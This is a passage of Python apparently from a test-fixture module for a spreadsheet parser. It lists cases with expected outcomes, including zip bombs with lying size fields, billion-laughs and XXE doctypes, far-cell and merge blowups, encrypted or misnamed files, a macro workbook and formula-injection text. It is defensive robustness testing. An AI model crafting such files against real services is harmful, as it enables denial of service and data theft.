    Case(zip_bomb_central_lies_only, "unreadable", what="2 GiB sheet, central directory says 4 KiB"),
    Case(cell_1gib, "unreadable", what="one 1 GiB shared string"),
    Case(cell_1gib_lying, "unreadable", what="one 1 GiB shared string, sizes lie"),
    Case(cell_150mib, "unreadable", what="one 150 MiB shared string (under the zip budget)"),
    Case(rows_beyond_limit, "unreadable", what="row 1048577"),
    Case(rows_without_refs, "unreadable", what="2.5M rows without r= attributes"),
    Case(rows_beyond_limit_dense, "unreadable", what="1.1M rows without r=, low compression ratio"),
    Case(cell_long_random, "unreadable", what="a 3 MiB cell of random hex (ratio ~2)"),
    Case(far_cell_xls, "unreadable", what=".xls with A1 + IV65536"),
    Case(far_cell, "unreadable", what="A1 + XFD1048576"),
    Case(far_cell_disguised, "unreadable", what="far cell: x: prefix, single quotes, lower case, zeros"),
    Case(far_dimension, "parsed", what="<dimension ref=A1:XFD1048576> only"),
    Case(far_merge, "unreadable", what="mergeCell A2:XFD1048576"),
    Case(many_merges, "unreadable", what="300k merged ranges of 96 cells"),
    Case(sst_huge_count, "unreadable", what="sharedStrings uniqueCount 2^32-1"),
    Case(sst_huge_count_second_attr, "unreadable", what="uniqueCount 2^32-1 after count=1"),
    *[
        Case(_doctype_case(kind, key), "unreadable", what=f"{kind} in {XML_PARTS[key]}")
        for kind in ("laughs", "xxe")
        for key in XML_PARTS
    ],
    Case(doctype_utf16, "unreadable", what="billion laughs in a UTF-16 sharedStrings part"),
    Case(encrypted_xlsx, "unreadable", what="OLE EncryptionInfo/EncryptedPackage as .xlsx"),
    Case(encrypted_xlsx_far_directory, "unreadable", what="encrypted, directory beyond 64 KiB"),
    Case(encrypted_as_xls, "unreadable", what="encrypted package named .xls"),
    Case(ole_not_a_workbook, "unreadable", what="OLE file without a Workbook stream"),
    Case(truncated_xlsx, "unreadable", what="sample xlsx cut in half"),
    Case(corrupt_xlsx, "unreadable", what="deflate streams flipped"),
    Case(truncated_xls, "unreadable", what="sample xls cut in half"),
    Case(corrupt_xls, "unreadable", what="sample xls with a garbage FAT"),
    Case(empty_file, "unreadable", what="0 bytes"),
    Case(pdf_as_xlsx, "unreadable", what="PDF named .xlsx"),
    Case(html_as_xls, "unreadable", what="HTML table named .xls"),
    Case(csv_as_xlsx, "unreadable", what="CSV named .xlsx"),
    Case(xls_as_xlsx, "unreadable", what=".xls bytes named .xlsx"),
    Case(xlsx_as_xls, "unreadable", what=".xlsx bytes named .xls"),
    Case(zip_not_workbook, "unreadable", what="a zip without xl/workbook.xml"),
    Case(xlsm_with_macro, "parsed", what=".xlsm with vbaProject.bin (never run)"),
    Case(external_link, "parsed", what="external link, cached value 25"),
    Case(uncalculated_formula, "parsed", codes=("W_FORMULA",), what="formula without a cached value"),
    Case(control_characters, "parsed", what="C0 control characters in a cell"),
    Case(formula_injection, "parsed", codes=("W_EXTRA_COLUMN",), what="= + - @ tab CR in text"),
    Case(good_xlsx, "parsed", what="the hand-built base workbook"),
    Case(good_xls, "parsed", what="the base workbook as .xls (xlwt)"),
]


def build_all(d: Path) -> dict[str, Case]:
    """Write every case into ``d``; file name -> case."""
    d.mkdir(parents=True, exist_ok=True)
    out = {}
    for case in CASES:
        name = case.build(d)
        assert name not in out, name
        out[name] = case
    return out
